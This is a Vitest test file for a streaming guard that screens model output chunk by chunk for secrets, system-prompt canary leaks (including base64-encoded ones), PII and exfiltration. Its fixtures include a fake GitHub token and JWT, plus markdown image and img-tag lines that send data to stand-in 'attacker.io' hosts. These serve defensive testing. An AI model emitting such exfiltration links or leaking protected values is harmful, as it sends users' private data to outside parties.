import { describe, expect, it } from "vitest";
import { createCanaryLayer } from "../../src/detectors/canary/index.js";
import { createExfiltrationLayer } from "../../src/detectors/exfiltration/index.js";
import { createNormalizeLayer } from "../../src/detectors/normalize/index.js";
import { createPiiLayer } from "../../src/detectors/pii/index.js";
import { createSecretsLayer } from "../../src/detectors/secrets/index.js";
import { createGuard, type Guard } from "../../src/guard/engine.js";
import { GuardSession } from "../../src/guard/session.js";
import { StreamBlockedError, guardStream, guardTextStream, type StreamEvent } from "../../src/guard/stream.js";
import type { Layer } from "../../src/guard/types.js";
import { resolvePolicy } from "../../src/policy/load.js";

const SECRET = "ghp_R4nd0mT0k3nV4lu3Xy7Zq2Wk9Lm3Np5Bc8Df";
const FILLER = "The quarterly report covers revenue, churn and the hiring plan for the next two quarters. ";

async function guardFor(session: GuardSession, policyInput: Record<string, unknown> = {}): Promise<Guard> {
  // Generous budgets: these tests are about behaviour, and the machine may be busy (timing lives in bench/).
  const budget = { budgetMs: 10_000 };
  const loaded = resolvePolicy({ version: 1, ...policyInput, layers: { normalize: budget, secrets: budget, canary: budget, exfiltration: { ...budget, allowedHosts: ["docs.acme.com"] }, pii: { ...budget, mode: "pseudonymize" }, ...(policyInput["layers"] as object) } });
  const { policy } = loaded;
  const layers: Layer[] = [createNormalizeLayer(policy)!, createSecretsLayer(policy.layers.secrets), createPiiLayer(policy.layers.pii, { session }), createCanaryLayer(policy.layers.canary, { session }), createExfiltrationLayer(policy.layers.exfiltration, { session })];
  const guard = createGuard({ policy: loaded, layers, replaceBuiltinLayers: true });
  return guard;
}

async function collect(stream: AsyncIterable<StreamEvent>): Promise<{ events: StreamEvent[]; text: string; last: StreamEvent }> {
  const events: StreamEvent[] = [];
  for await (const event of stream) events.push(event);
  const text = events.map((e) => (e.type === "text" ? e.text : "")).join("");
  return { events, text, last: events[events.length - 1]! };
}

function chunked(text: string, size: number): string[] {
  const out: string[] = [];
  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
  return out;
}

/** No released piece may carry 8 or more consecutive characters of the secret. */
function leaksPartOf(released: string, secret: string): boolean {
  for (let i = 0; i + 8 <= secret.length; i++) if (released.includes(secret.slice(i, i + 8))) return true;
  return false;
}

describe("streaming output checker", () => {
  it("a secret split across three chunks never reaches the consumer", async () => {
    const session = new GuardSession();
    const chunks = [FILLER.repeat(4) + "Here is the deploy token: " + SECRET.slice(0, 12), SECRET.slice(12, 27), SECRET.slice(27) + " -- keep it safe. " + FILLER.repeat(4)];
    const { events, text, last } = await collect(guardStream(await guardFor(session), chunks, { session }));
    expect(last).toMatchObject({ type: "end", action: "redact", categories: ["secret"] });
    for (const event of events) if (event.type === "text") expect(leaksPartOf(event.text, SECRET)).toBe(false);
    expect(text).toContain("Here is the deploy token: [REDACTED:github-token] -- keep it safe.");
    expect(text).toBe((chunks.join("")).replace(SECRET, "[REDACTED:github-token]"));
  });

  it("releases text before the stream ends (holdback, not buffering)", async () => {
    const session = new GuardSession();
    let pulled = 0;
    const total = 60;
    async function* source() {
      for (let i = 0; i < total; i++) {
        pulled++;
        yield FILLER.slice(0, 40);
      }
    }
    let pulledAtFirstText = -1;
    for await (const event of guardStream(await guardFor(session), source(), { session, holdbackChars: 128, checkEveryChars: 32 })) {
      if (event.type === "text" && pulledAtFirstText < 0) pulledAtFirstText = pulled;
    }
    // 128 characters of holdback at 40 per chunk: the first text goes out after a handful of chunks.
    expect(pulledAtFirstText).toBeGreaterThan(0);
    expect(pulledAtFirstText).toBeLessThanOrEqual(6);
  });

  it("a canary leaked as base64 ends the stream with a well-formed error and releases none of it", async () => {
    const session = new GuardSession();
    session.protectSystemPrompt("You are a helpful assistant.");
    const encoded = Buffer.from(`my hidden marker is ${session.canaries[0]!}`).toString("base64");
    const chunks = chunked(FILLER.repeat(3) + "Encoded as requested: " + encoded + " " + FILLER.repeat(3), 7);
    const { text, last } = await collect(guardStream(await guardFor(session), chunks, { session }));
    expect(last).toMatchObject({ type: "error", code: "blocked", categories: ["canary_leak"] });
    expect(typeof (last as { decisionId?: string }).decisionId).toBe("string");
    expect(leaksPartOf(text, encoded)).toBe(false);
  });

  it("pseudonymised e-mail addresses stay consistent across chunks and turns; only the authorised caller sees originals", async () => {
    const session = new GuardSession();
    const guard = await guardFor(session);
    const reply = FILLER + "I have written to jane.roe@acme-mail.io and copied Jane.Roe@acme-mail.io again. " + FILLER;
    const hidden = await collect(guardStream(guard, chunked(reply, 5), { session }));
    expect(hidden.text).not.toContain("jane.roe");
    expect(hidden.text).toContain("I have written to <EMAIL_1> and copied <EMAIL_1> again.");
    const authorised = await collect(guardStream(guard, chunked(reply, 3), { session, restorePseudonyms: true }));
    expect(authorised.text).toBe(reply.replace("Jane.Roe@acme-mail.io", "jane.roe@acme-mail.io"));
    // A pseudonym the model repeats, split across chunks, is restored whole for the authorised caller.
    const echoed = await collect(guardStream(guard, ["Reply sent to <EMA", "IL_", "1> today."], { session, restorePseudonyms: true }));
    expect(echoed.text).toBe("Reply sent to jane.roe@acme-mail.io today.");
  });

  it("blocks markdown image exfiltration to a non-allowlisted host and passes links to allowlisted hosts", async () => {
    const session = new GuardSession();
    const guard = await guardFor(session);
    const attack = await collect(guardStream(guard, chunked(FILLER + "![status](https://collect.attacker.io/pixel.png?d=salary%20is%2090k) " + FILLER, 6), { session }));
    expect(attack.last).toMatchObject({ type: "error", code: "blocked", categories: ["exfiltration"] });
    expect(attack.text).not.toContain("attacker.io");
    const benign = FILLER + "See [the setup guide](https://docs.acme.com/setup) for details. " + FILLER;
    const ok = await collect(guardStream(guard, chunked(benign, 6), { session }));
    expect(ok.last).toMatchObject({ type: "end", action: "allow" });
    expect(ok.text).toBe(benign);
  });

  it("holds a token longer than the holdback until it ends", async () => {
    const session = new GuardSession();
    const jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + Buffer.from(JSON.stringify({ sub: "1234567890", name: "x".repeat(300) })).toString("base64url") + ".Xk9Lm2Np4Qr7St1Vw3Yz6Bc8Df0Gh2Jk5Lm";
    const { events, text } = await collect(guardStream(await guardFor(session), chunked(FILLER + "Authorization: Bearer " + jwt + " " + FILLER, 9), { session, holdbackChars: 64, checkEveryChars: 16 }));
    for (const event of events) if (event.type === "text") expect(leaksPartOf(event.text, jwt.slice(40))).toBe(false);
    expect(text).not.toContain(jwt.slice(0, 20));
  });

  it("decodes byte chunks of any size, joining characters split across chunks", async () => {
    const session = new GuardSession();
    const text = "Café crème, naïve façade, 日本語のテキスト, emoji 🙂🚀. " + FILLER.repeat(30);
    const bytes = new TextEncoder().encode(text);
    for (const size of [1, 2, 3, 7, 1000, bytes.length]) {
      const chunks = chunked(Buffer.from(bytes).toString("latin1"), size).map((piece) => new Uint8Array(Buffer.from(piece, "latin1")));
      const result = await collect(guardStream(await guardFor(session), chunks, { session }));
      expect(result.last.type, `size ${size}`).toBe("end");
      expect(result.text, `size ${size}`).toBe(text);
    }
  });

  it("replaces invalid UTF-8 with U+FFFD and still ends well-formed", async () => {
    const session = new GuardSession();
    const chunks = [new Uint8Array([0x48, 0x69, 0x20, 0xe6]), new Uint8Array([0x97]), new Uint8Array([0xff, 0x20, 0x6f, 0x6b, 0xc3])];
    const { text, last } = await collect(guardStream(await guardFor(session), chunks, { session }));
    expect(last.type).toBe("end");
    expect(text.startsWith("Hi ")).toBe(true);
    expect(text).toContain("\ufffd");
    expect(text).toContain("ok");
  });

  it("releases normalised text when a transform layer rewrites it (invisible characters removed)", async () => {
    const session = new GuardSession();
    const text = FILLER + "zero\u200bwidth\u200b characters " + SECRET + " " + FILLER;
    const { text: released, last } = await collect(guardStream(await guardFor(session), chunked(text, 4), { session }));
    expect(last).toMatchObject({ type: "end", action: "redact" });
    expect(released).not.toContain("\u200b");
    expect(leaksPartOf(released, SECRET)).toBe(false);
    expect(released).toContain("zerowidth");
  });

  it("handles one multi-megabyte chunk", async () => {
    const session = new GuardSession();
    const big = FILLER.repeat(Math.ceil((2 * 1024 * 1024) / FILLER.length));
    const { text, last } = await collect(guardStream(await guardFor(session), [big + SECRET + " end"], { session }));
    expect(last).toMatchObject({ type: "end", action: "redact" });
    expect(text).toBe(big + "[REDACTED:github-token] end");
  });

  it("an upstream that fails mid-stream ends with an error and never releases the held-back text", async () => {
    const session = new GuardSession();
    const tail = "and the held-back tail mentions 4111 1111 1111";
    async function* failing() {
      yield FILLER.repeat(5);
      yield tail;
      throw new Error("connection reset");
    }
    const { text, last } = await collect(guardStream(await guardFor(session), failing(), { session }));
    expect(last).toMatchObject({ type: "error", code: "upstream_error" });
    expect(text).not.toContain("4111");
    expect((FILLER.repeat(5) + tail).startsWith(text)).toBe(true);
  });

  it("guardTextStream yields released strings and throws StreamBlockedError where the stream was blocked", async () => {
    const session = new GuardSession();
    const received: string[] = [];
    const run = async () => {
      for await (const piece of guardTextStream(await guardFor(session), chunked(FILLER.repeat(4) + "<img src='https://x.attacker.io/p.gif'> " + FILLER, 11), { session })) received.push(piece);
    };
    await expect(run()).rejects.toBeInstanceOf(StreamBlockedError);
    expect(received.join("")).not.toContain("attacker");
  });
});
